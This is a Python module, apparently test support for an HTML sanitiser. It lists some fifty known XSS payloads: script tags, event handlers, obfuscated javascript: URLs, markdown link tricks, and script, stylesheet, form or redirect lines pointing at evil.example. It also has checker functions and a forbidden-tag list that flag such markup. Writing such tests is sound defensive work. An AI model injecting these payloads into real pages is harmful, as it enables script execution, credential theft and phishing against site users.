"""Known XSS payloads and a checker for HTML that must be free of them."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=x><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" &#14;javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="javascript&colon;alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](&#106;avascript:alert(1))",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "<javascript:alert(1)>",
    '<p onclick="alert(1)" style="position:fixed">hi</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    '<a href="#" onmouseover="alert(1)">x</a>',
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<<script>script>alert(1)<</script>/script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '<code class="flash flash-success">fake</code>',
    '<h2 id="csrf-token">clobber</h2>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="https://ok.example" target="_blank">ok</a>',
]

FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "frame",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "svg",
    "math",
    "style",
    "link",
    "meta",
    "base",
    "template",
    "noscript",
    "video",
    "audio",
    "source",
    "img",
    "details",
}
_BAD_URL = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
_CONTROL = re.compile(r"[\x00-\x20]+")


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def _bad_url(value: str | None) -> bool:
    return bool(value) and bool(_BAD_URL.match(_CONTROL.sub("", html.unescape(value))))


def problems(fragment: str, allowed_tags: frozenset[str] = frozenset()) -> list[str]:
    """Everything dangerous in an HTML fragment (sanitiser output): an empty list means clean."""
    collector = _Collector()
    collector.feed(fragment)
    found = []
    for tag, attrs in collector.tags:
        if tag in FORBIDDEN_TAGS and tag not in allowed_tags:
            found.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                found.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src", "action", "data", "xlink:href") and _bad_url(value):
                found.append(f"url {value!r} on <{tag}>")
            if name == "id" and not (value or "").startswith("user-content-"):
                found.append(f"unprefixed id {value!r}")
            if name == "class" and not re.fullmatch(r"language-[\w+-]+", value or ""):
                found.append(f"class {value!r}")
    return found


def page_problems(page: str) -> list[str]:
    """Dangerous markup anywhere in a whole page of ours.

    Our own pages carry scripts only from /static, forms posting to our own
    paths, and no inline handlers or styles; anything else came from a payload.
    """
    collector = _Collector()
    collector.feed(page)
    found = []
    for tag, attrs in collector.tags:
        attributes = dict(attrs)
        if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
            found.append("inline or foreign <script>")
        elif tag == "form" and not (attributes.get("action") or "").startswith("/"):
            found.append(f"form posting to {attributes.get('action')!r}")
        elif tag in {"iframe", "frame", "object", "embed", "svg", "math", "style", "base", "template", "img"}:
            found.append(f"tag <{tag}>")
        elif tag == "meta" and "http-equiv" in attributes:
            found.append("meta refresh")
        elif tag == "link" and not (attributes.get("href") or "").startswith("/static/"):
            found.append("foreign stylesheet")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                found.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src", "action", "data") and _bad_url(value):
                found.append(f"url {value!r} on <{tag}>")
    return found
